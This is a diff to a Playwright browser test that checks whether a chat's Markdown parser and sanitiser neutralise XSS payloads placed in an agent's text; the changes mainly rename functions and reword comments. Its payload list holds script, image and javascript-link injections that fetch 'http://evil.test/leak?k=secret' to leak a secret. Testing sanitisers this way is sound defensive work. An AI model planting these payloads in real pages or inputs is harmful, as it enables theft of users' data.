@@ -3,12 +3,12 @@ import { expect, type Page, test } from '@playwright/test';
 import { build, type Rollup } from 'vite';
 
 /**
- * The chat's Markdown in a real browser, on a page without a content security policy: what gets past the sanitiser
- * would run here, and what loads would be seen.
+ * The chat's Markdown in a real browser, on a page without a content security policy: anything that gets past the
+ * sanitiser would run here, and the test sees everything that loads.
  */
 const evil = 'http://evil.test/leak?k=secret';
 
-/** What ends up as an element, an address or a style when it is not held back. */
+/** Payloads that become an element, an address or a style unless they are neutralised. */
 const payloads = [
   `<script>fetch('${evil}')</script>`,
   `<img src="${evil}">`,
@@ -58,7 +58,7 @@ const payloads = [
   `<javascript:fetch('${evil}')>`,
 ];
 
-/** Where it may stand. */
+/** Where a payload may appear. */
 const places: ((payload: string) => string)[] = [
   (it) => it,
   (it) => `Before ${it} after`,
@@ -79,24 +79,24 @@ const places: ((payload: string) => string)[] = [
 ];
 const texts = payloads.flatMap((payload) => places.map((place) => place(payload)));
 
-/** The chat's own reading and sanitising, as one script. */
-async function drawing(): Promise<string> {
-  const entry = fileURLToPath(new URL('drawing.ts', import.meta.url));
+/** The chat's Markdown parser and sanitiser, bundled as one script. */
+async function bundleMarkdown(): Promise<string> {
+  const entry = fileURLToPath(new URL('markdown-entry.ts', import.meta.url));
   const built = await build({
     configFile: false,
     logLevel: 'error',
-    build: { write: false, lib: { entry, formats: ['iife'], name: 'drawing' } },
+    build: { write: false, lib: { entry, formats: ['iife'], name: 'markdown' } },
   });
   const [bundle] = [built].flat() as Rollup.RollupOutput[];
   return bundle!.output[0].code;
 }
 
-interface Drawing {
+interface MarkdownCode {
   readMarkdown: (text: string, growing?: boolean) => ({ kind: 'html'; html: string } | { kind: 'code' })[];
   sanitize: (html: string) => string;
 }
 
-/** An empty page, and what it requests. */
+/** Opens an empty page. @returns the list of its requests, which grows */
 async function emptyPage(page: Page): Promise<string[]> {
   const requests: string[] = [];
   await page.route('**/*', async (route) => {
@@ -110,18 +110,18 @@ async function emptyPage(page: Page): Promise<string[]> {
   return requests;
 }
 
-/** Resolves when everything requested before has been seen. */
+/** Resolves once all earlier requests are recorded. */
 const settled = (page: Page) => page.evaluate(async () => void (await fetch('/last')));
 
 test(
-  'W4 A104 nothing that the agent says runs, loads or leads anywhere but to the web',
+  'W4 A104 nothing in the agent’s text runs, loads or links anywhere but to the web',
   { tag: '@gate' },
   async ({ page }) => {
     expect(texts.length).toBeGreaterThanOrEqual(600);
     const requests = await emptyPage(page);
-    await page.addScriptTag({ content: await drawing() });
+    await page.addScriptTag({ content: await bundleMarkdown() });
     const found = await page.evaluate((given) => {
-      const { readMarkdown, sanitize } = (window as unknown as { drawing: Drawing }).drawing;
+      const { readMarkdown, sanitize } = (window as unknown as { markdown: MarkdownCode }).markdown;
       const allowed = new Set(
         'P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE A H1 H2 H3 H4 H5 H6 UL OL LI TABLE THEAD TBODY TR TH TD'.split(
           ' ',
@@ -151,7 +151,7 @@ test(
       };
       for (const text of given) {
         draw(text, false);
-        // As it grows: cut at a third and at two.
+        // As if still growing, cut at one third and two thirds.
         for (const part of [1, 2]) draw(text.slice(0, Math.floor((text.length * part) / 3)), true);
       }
       return { bad, links };
@@ -163,7 +163,7 @@ test(
   },
 );
 
-test('A104 the same payloads as plain HTML do load, so that the page would tell', async ({ page }) => {
+test('A104 the same payloads do load as plain HTML, so the test would notice', async ({ page }) => {
   const requests = await emptyPage(page);
   await page.evaluate(
     (given) => {
